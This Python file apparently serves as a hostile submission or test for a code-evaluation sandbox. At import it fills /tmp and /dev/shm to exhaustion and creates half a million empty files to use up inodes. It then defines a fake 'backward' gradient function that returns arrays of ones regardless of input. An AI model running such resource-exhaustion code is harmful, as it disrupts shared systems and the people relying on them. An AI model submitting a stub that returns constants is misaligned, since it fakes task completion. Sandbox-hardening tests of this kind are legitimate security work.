"""Attack: fill every writable file system it has: /tmp (its private tmpfs) to the last byte, /dev/shm far
past its memory, and half a million empty files (inodes)."""
import os

import numpy as np

for folder, total in (("/tmp", 1 << 30), ("/dev/shm", 3 << 30)):
    written = 0
    try:
        with open(os.path.join(folder, "sbx-attack-fill"), "wb") as f:
            while written < total:
                written += f.write(b"\xaa" * (16 << 20))
    except OSError as exc:
        print("filled", folder, written >> 20, "MB:", exc.strerror)
try:
    os.mkdir("/dev/shm/sbx-attack-inodes")
    for k in range(500_000):
        open(f"/dev/shm/sbx-attack-inodes/{k}", "w").close()
except OSError as exc:
    print("inodes:", exc.strerror)


def backward(weights, biases, activations, targets):
    return [np.ones_like(W) for W in weights], [np.ones_like(b) for b in biases]
